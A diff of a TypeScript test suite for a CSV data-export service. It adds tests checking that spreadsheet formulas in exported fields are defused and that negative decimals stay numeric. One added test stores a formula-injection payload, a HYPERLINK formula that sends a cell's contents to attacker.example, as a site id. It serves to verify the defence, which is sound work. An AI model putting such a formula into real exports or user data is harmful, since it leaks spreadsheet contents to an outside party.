@@ -196,6 +196,15 @@ test('CSV bytes are the kit’s CSV of each JSON line: quotes, commas, newlines,
     '\u0001\u001f ctl',
     'back\\slash /',
     "it's",
+    '-0.500',
+    '-12',
+    '-1.5e3',
+    '-.5',
+    '-1.',
+    '-',
+    '--1',
+    '-1 ',
+    '-1\n2',
   ];
   const raws = [
     {},
@@ -236,6 +245,39 @@ test('CSV bytes are the kit’s CSV of each JSON line: quotes, commas, newlines,
       .join('');
   assert.equal(csv.rawPayload.toString('utf8'), expected);
   assert.ok(csv.body.includes(`,'=1+2,`), 'a formula defused');
+});
+
+test('CSV download: text a spreadsheet would run is defused, decimals kept as exact text stay numbers (negative ones too)', async () => {
+  await svc.createOrg('org-formula');
+  const token = await tokenFor(svc, 'org-formula');
+  // A site id is the organisation's own text: a formula that would send the sheet's cells elsewhere.
+  const evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
+  await svc.deps.db.query(
+    `insert into energy_site_halfhours (org_id, site_id, slot, day, import_kwh, export_kwh, generation_kwh, consumption_kwh, charge_kwh, discharge_kwh, residual_kwh, basis, consumption_method, coverage, assets_expected, assets_reporting, complete, all_measured)
+           values ($1, $2, '2026-11-19T00:00:00Z', '2026-11-19', 0, 0.5, 0, 0, 0, 0, -0.5, '{}', 'balance', 1, 1, 1, true, true),
+                  ($1, $2, '2026-11-19T00:30:00Z', '2026-11-19', 1.25, 0, 0, 1.25, 0, 0, -12.125, '{}', 'balance', 1, 1, 1, true, true)`,
+    ['org-formula', evil],
+  );
+  const j = json(await call(svc, token, 'POST', BASE, { collections: ['energy.site_half_hours'], format: 'csv' }));
+  await runToEnd(svc, token, j.job_id);
+  const res = await call(svc, token, 'GET', `${BASE}/jobs/${j.job_id}/collections/energy.site_half_hours`);
+  assert.equal(res.statusCode, 200);
+  const [head, ...rows] = parseCsv(res.body);
+  const col = (r: string[], name: string) => r[head.indexOf(name)];
+  assert.deepEqual(
+    rows.map((r) => col(r, 'site_id')),
+    [`'${evil}`, `'${evil}`],
+    'the formula is text in the sheet',
+  );
+  // The JSON Lines keep decimals as exact text ("-0.500"); in the CSV they are numbers a spreadsheet
+  // reads as such, not text behind an apostrophe.
+  assert.deepEqual(
+    rows.map((r) => [col(r, 'import_kwh'), col(r, 'export_kwh'), col(r, 'residual_kwh')]),
+    [
+      ['0.000', '0.500', '-0.500'],
+      ['1.250', '0.000', '-12.125'],
+    ],
+  );
 });
 
 test('export refusals: roles, another organisation’s job, unknown collections, bad periods', async () => {
